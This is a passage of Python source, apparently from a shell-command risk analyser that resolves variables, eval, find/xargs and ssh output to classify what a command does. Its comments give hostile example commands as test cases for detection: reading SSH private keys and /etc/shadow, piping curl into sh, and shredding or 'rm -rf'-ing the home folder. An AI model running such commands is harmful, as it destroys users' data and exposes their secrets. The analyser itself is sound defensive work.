                kinds |= _file_read_in(node)  # `$(< ~/.ssh/id_rsa)`: bash reads the file in
            stack.extend((child, node) for child in node.children)
        self._kinds[key] = frozenset(kinds)
        return self._kinds[key]


_REFERENCE = lazy_pattern(r"\$\{(\w+|@)\}")


def _known_code(word: Word, variables: dict[str, str]) -> bool:
    """`name=world; eval "echo hello $name"`: every variable in the code was set to a literal
    earlier in the line, so the code that runs is known (and is rated as itself)."""
    if word.substitutions or "${" not in word.value:
        return False
    expanded = _expanded(word.value, variables, word.raw)
    return "$" not in expanded and "`" not in expanded


def _expanded(text: str, variables: dict[str, str], raw: str = "") -> str:
    """`eval "$v"`, `bash -c "$1"`: the shell expands the variables before it parses the code,
    so known values are put in (`v='curl ... | sh'` is then read as a pipeline). Indirect
    (`${!n}`) and keyed (`${m[k]}`) references are taken from the word as written."""
    whole = re.fullmatch(r"[\"']?\$\{(?:!(\w+)|(\w+)\[(\w+)\])\}[\"']?", raw.strip())
    if whole and whole.group(1):
        target = variables.get(whole.group(1), "")
        return variables.get(target, text)
    if whole:
        return variables.get(f"{whole.group(2)}[{whole.group(3)}]", text)
    return _REFERENCE.sub(lambda m: variables.get(m.group(1), m.group(0)), text)


def _positional(by: Command, code: Word) -> dict[str, str]:
    """`sh -c CODE NAME ARG...`: inside CODE, `$0` is NAME and `$1`... are the ARGs."""
    if by.name not in SHELLS:
        return {}
    args = [word.value for word in by.args]
    index = next((i for i, word in enumerate(by.args) if word is code), None)
    if index is None or index + 1 >= len(args):
        return {}
    rest = args[index + 1 :]
    if by.implied_recursive:  # `find D -type f -exec sh -c ': > "$1"' _ {} +`: each file of D
        rest = [_each_file(value) if value.startswith(("/", "~", ".")) else value for value in rest]
    values = {str(number): value for number, value in enumerate(rest[:10])}
    values["@"] = " ".join(rest[1:])
    return values


def _on_found_tree(command: Command, found: frozenset[str], variables: dict[str, str]) -> Command:
    """`find ~ -type f -exec sh -c 'shred -u "$0"' {} \\;`: a command given a file find hands
    over acts on every file below the start, as `find ~ -type f -exec shred -u {} \\;` does."""
    words = list(command.words)
    for index, word in enumerate(words[1:], start=1):
        if word.substitutions:
            continue
        text = _expanded(word.value, variables)
        hit = next((each for each in sorted(found) if text.endswith(each)), None)  # `f=@$1` too
        if hit is not None:
            words[index] = literal(text.replace(hit, hit[:-2] or "/"))
    if words == list(command.words):
        return command
    return replace(command, words=tuple(words), implied_recursive=True)


def _each_file_operands(positional: dict[str, str]) -> frozenset[str]:
    """The positional values that stand for every file below a folder (`D/*`)."""
    return frozenset(
        value for key, value in positional.items() if key != "@" and value.endswith("/*")
    )


def _each_file(value: str) -> str:
    """A folder find or xargs hands over whole (`{}` of `find D -type f`): every file in it."""
    if value.startswith("-") or value.endswith("}") or "*" in value:
        return value
    return value.rstrip("/") + "/*"


def _declares_nameref(node: Node) -> bool:
    """`declare -n`, `typeset -n`, `local -n`: the names declared refer to other variables."""
    if node.type != "declaration_command":
        return False
    flags = [node_text(c) for c in node.children if c.type == "word"]
    return any(f.startswith("-") and "n" in f for f in flags)


def _found_operands(command: Command) -> Command:
    """`shred -u $(find ~ -type f)`: an operand that is the output of a find is what the find
    selects; unfiltered, each file below its start (as `find ~ -type f -exec shred -u {} +`)."""
    words = list(command.words)
    implied = False
    for index, word in enumerate(words[1:], start=1):
        if len(word.substitutions) != 1 or word.value != SUBSTITUTED:
            continue
        found = find_output(word.substitutions[0])
        if found is not None:
            words[index] = literal(found[0])
            implied = implied or not found[1]
    if words == list(command.words):
        return command
    return replace(
        command, words=tuple(words), implied_recursive=command.implied_recursive or implied
    )


def _remote_kinds(code: list[tuple[Command, Word]]) -> set[str]:
    """`ssh host 'cat /etc/shadow' | ...`: what the remote command prints (its last stage)
    comes out of ssh, so it is of that command's kinds (a secret, a listing, ...)."""
    kinds: set[str] = set()
    for by, word in code[:4]:
        if by.name != "ssh" or word.dynamic:
            continue
        last = word.value.rsplit("|", 1)[-1].split(";")[-1].split()
        if last:
            kinds |= command_kinds(replace(by, words=tuple(map(literal, last[:32]))))
    return kinds


def _readings(word: Word) -> list[Word]:
    """The code a word can be: as written, and with its `${x:-TEXT}`-like defaults taken."""
    if word.alternative is None or word.alternative == word.value:
        return [word]
    return [word, replace(word, value=word.alternative, alternative=None)]


def _filled(word: Word) -> str:
    """The code of `word` with `$(echo rm -rf ~)`-like substitutions replaced by what they
    print, when every one of them prints a known text (`eval "$(printf 'rm %s' f)"`)."""
    outputs = [literal_output(node) for node in word.substitutions]
    text = word.value
    if not outputs or text.count(SUBSTITUTED) != len(outputs):
        return text
    for output in outputs:
        if output is None:
            return word.value
        text = text.replace(SUBSTITUTED, output.strip(), 1)
    return text


_EXECUTING = frozenset({"download", "decode", "network", "remote"})
_PASSED_ON = frozenset({"download", "decode", "encoded", "secret"})
_REACHING_OUT = ("network", "download", "connect", "sends", "another machine", "not a command")
# Variables whose value the shell runs as code again and again.
PROMPT_HOOKS = frozenset(("PROMPT_COMMAND", "precmd_functions", "preexec_functions"))


_THE_SHELL_ITSELF = frozenset(("/proc/self/exe", "/proc/$$/exe", "/proc/$BASHPID/exe"))
_OPTION = lazy_pattern(r"--?[\w=.,:-]*")
_PAGERS = frozenset(("less", "more", "most", "cat", "bat", "batcat", "delta", "diff-so-fancy"))


def _plain_pager(code: str) -> bool:
    """`PAGER=cat`, `MANPAGER='less -s'`, `GIT_PAGER='delta --dark'`: a pager and its options."""
    words = code.split()
    options = words[1:]
    return bool(words) and words[0] in _PAGERS and all(_OPTION.fullmatch(w) for w in options)


def wrapper_directory(layer: Command) -> str | None:
    """The folder `env -C DIR`, `env --chdir=DIR` or `sudo -D DIR` runs its command in."""
    if layer.name not in ("env", "sudo"):
        return None
    flags = ("-C", "--chdir") if layer.name == "env" else ("-D", "--chdir")
    argv = layer.argv
    for index, value in enumerate(argv):
        if value in flags and index + 1 < len(argv):
            return argv[index + 1]
        if value.startswith("--chdir="):
            return value.split("=", 1)[1]
        if not value.startswith("-"):
            break
    return None


def _fed_by_substitution(command: Command) -> Command:
    """`xargs -0 rm -rf < <(printf '%s\\0' ~/a ~/b)`: the text the substitution prints is the
    command's input, as if piped in (`printf ... | xargs -0 rm -rf`)."""
    for redirect in command.redirects:
        target = redirect.target
        if redirect.op != "<" or target is None or len(target.substitutions) != 1:
            continue
        text = fed_text(target.substitutions[0])
        if text is not None:
            fed = Stdin(kinds=frozenset(("literal",)), literal=(literal(text),))
            return replace(command, stdin=fed)
    return command
